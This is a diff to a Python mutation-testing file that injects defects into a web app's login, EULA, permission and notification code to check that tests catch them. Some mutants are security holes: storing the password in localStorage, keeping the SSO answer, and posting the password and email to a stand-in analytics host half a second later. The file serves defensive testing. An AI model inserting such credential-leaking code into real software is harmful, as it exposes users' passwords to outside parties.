@@ -129,3 +129,78 @@ WEB_MUTANTS = [
         "    list(id, found);", "    list(id, id === 'unread_messages' ? [] : found);",
     ),
 ]  # fmt: skip
+
+# What a negative, a content check, the permission prompts, the storage and the late traffic catch.
+ANALYTICS = "https://collect.one-analytics.example/v1"
+ALLOW_HANDLER = "document.getElementById('allow').addEventListener('click', () => {"
+WEB_MUTANTS += [
+    mutant(
+        "EulaWithoutTheAgreement", "MO-EULA-1", "eula.js",
+        "  document.getElementById('agreement-text').textContent = agreement.text;\n", "",
+    ),
+    mutant(
+        "ConfirmStaysPossibleOnceSelected", "MO-EULA-1", "eula.js",
+        "confirmButton.disabled = !accept.checked;",
+        "confirmButton.disabled = confirmButton.disabled && !accept.checked;",
+    ),
+    # The box cannot be cleared once selected.
+    mutant(
+        "CheckBoxCannotBeCleared", "MO-EULA-1", "eula.js", "accept.addEventListener('change',",
+        "accept.addEventListener('click', (event) => { if (!accept.checked) event.preventDefault(); });\n"
+        "accept.addEventListener('change',",
+    ),
+    # The Account Number is asked for beside the password, whatever the user name.
+    mutant(
+        "AccountNumberAskedWithThePassword", "MO-IN-4", "login.html", '      <form id="password-form">\n',
+        '      <form id="password-form">\n        <label for="account-again">Account Number</label>\n'
+        '        <input id="account-again" type="text" inputmode="numeric">\n',
+    ),
+    mutant(
+        "LogoutBesideTheAvatar", "MO-OUT-1", "home.html", '<header>\n',
+        "<header>\n    <button type=\"button\" onclick=\"document.getElementById('logout').click()\">Logout</button>\n",
+    ),
+    WebMutant("NeverAsksForTheMicrophone", ("MO-PERM-1",), (
+        ("home.js", "const PERMISSIONS = ['notifications', 'microphone'];", "const PERMISSIONS = ['notifications'];"),
+        ("home.js", "(await navigator.mediaDevices.getUserMedia({audio: true})).getTracks()", "[]"),
+    )),
+    # Allow only hides the app's message: the browser is never asked, so nothing is granted.
+    mutant(
+        "AllowAsksTheBrowserNothing", "MO-PERM-1", "home.js", ALLOW_HANDLER,
+        "document.getElementById('allow').addEventListener('click', () => {\n"
+        "  show(document.getElementById('permissions'), false);\n});\n"
+        "document.getElementById('allow').addEventListener('unused', () => {",
+    ),
+    mutant(
+        "MissedCallsAmongTheMessages", "MO-OUT-3", "home.js", "    list(id, found);",
+        "    list(id === 'missed_calls' ? 'unread_messages' : id,\n"
+        "      id === 'unread_messages' ? [...found, ...inbox.missed_calls] : found);",
+    ),
+    # An incoming call is only added to the missed calls: the user is never notified of it.
+    mutant(
+        "IncomingCallsAmongTheMissedCalls", "MO-OUT-2", "home.js",
+        "  document.getElementById('notifications').append(item);",
+        "  document.getElementById('missed_calls').append(item);",
+    ),
+    mutant(
+        "RemembersThePassword", "SEC-REST-1", "login.js",
+        "    const password = document.getElementById('password').value;\n",
+        "    const password = document.getElementById('password').value;\n"
+        "    localStorage.setItem('remembered', JSON.stringify({username: userName(), password}));\n",
+    ),
+    mutant(
+        "KeepsTheSsoAnswer", "SEC-REST-1", "sso.js", "  sessionStorage.removeItem('sso');\n",
+        "  sessionStorage.setItem('sso', JSON.stringify({...sso, answer: location.search}));\n",
+    ),
+    # Half a second after Next, the password goes to an analytics host too: on a page that stays.
+    mutant(
+        "SendsThePasswordLater", "MO-PW-1", "login.js",
+        "    const password = document.getElementById('password').value;\n",
+        "    const password = document.getElementById('password').value;\n"
+        f"    setTimeout(() => post('{ANALYTICS}/login', {{username: userName(), password}}), 500);\n",
+    ),
+    mutant(
+        "ReportsTheVisitLater", "MO-IN-3", "home.js", "  const me = await answer.json();\n",
+        "  const me = await answer.json();\n"
+        f"  setTimeout(() => post('{ANALYTICS}/visit', {{user: me.email}}), 500);\n",
+    ),
+]  # fmt: skip
